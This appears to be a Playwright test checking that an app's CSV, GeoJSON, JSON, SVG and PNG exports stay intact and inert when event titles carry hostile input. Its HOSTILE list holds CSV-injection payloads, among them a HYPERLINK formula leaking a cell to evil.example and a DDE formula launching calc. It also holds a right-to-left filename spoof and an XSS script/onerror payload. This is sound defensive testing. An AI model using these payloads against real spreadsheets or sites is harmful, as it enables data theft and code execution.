import Papa from 'papaparse';
import { download, openAtlas, openDownloads, readSvg } from './support/atlas-driver.ts';
import { expect, test } from './support/test.ts';

// A dataset whose titles carry formulas, quotes, commas, line breaks, right-to-left marks and
// markup exports cleanly: the files parse back to the same values and nothing runs.

declare global {
  interface Window {
    __pwned?: number;
  }
}

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  'Quotes "inside", commas, and\na line break\r\nor two',
  'Right-to-left \u200F\u202Eevil.exe\u202C \u200Fمرحبا',
  '</script><script>window.__pwned=1</script><img src=x onerror="window.__pwned=2">',
];

/** What a spreadsheet-safe cell holds: formula starts prefixed with a quote. */
const neutralised = (title: string) => (/^[=+\-@\t\r]/.test(title) ? `'${title}` : title);

test('a hostile dataset exports safely: CSV, GeoJSON and SVG read back the same, and nothing runs', async ({
  page,
}) => {
  const ids: string[] = [];
  await page.route('**/data/events.json', async (route) => {
    const response = await route.fetch();
    const json = await response.json();
    // Events with a place of their own, so each is also a point in the GeoJSON and the SVG.
    const placed = json.events.filter((event: { location?: unknown }) => event.location);
    HOSTILE.forEach((title, i) => {
      placed[i].title = title;
      ids.push(placed[i].id);
    });
    await route.fulfill({ response, json });
  });
  const dialogs: string[] = [];
  page.on('dialog', (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await openAtlas(page);
  await openDownloads(page);

  const csv = await download(page, 'Data (CSV)');
  const rows = Papa.parse<Record<string, string>>(csv.text.slice(1), { header: true, skipEmptyLines: true });
  expect(rows.errors).toEqual([]);
  const titleOf = new Map(rows.data.map((row) => [row.id, row.title]));
  expect(ids.map((id) => titleOf.get(id))).toEqual(HOSTILE.map(neutralised));

  const geojson = JSON.parse((await download(page, 'Data (GeoJSON)')).text);
  const geoTitle = new Map(
    geojson.features.map((f: { properties: { id: string; title: string } }) => [
      f.properties.id,
      f.properties.title,
    ]),
  );
  expect(ids.map((id) => geoTitle.get(id))).toEqual(HOSTILE);

  const json = JSON.parse((await download(page, 'Data (JSON)')).text);
  const jsonTitle = new Map(json.events.map((e: { id: string; title: string }) => [e.id, e.title]));
  expect(ids.map((id) => jsonTitle.get(id))).toEqual(HOSTILE);

  const svg = await readSvg(page, (await download(page, 'Image (SVG)')).text);
  expect(svg.errors).toBe(0);
  expect(svg.scripts).toBe(0);
  // In SVG text a line break is a space.
  for (const title of HOSTILE) expect(svg.titles).toContain(title.replace(/\r\n?|\n/g, ' '));

  await download(page, 'Image (PNG)', { scale: 1 });
  expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
  expect(dialogs).toEqual([]);
});
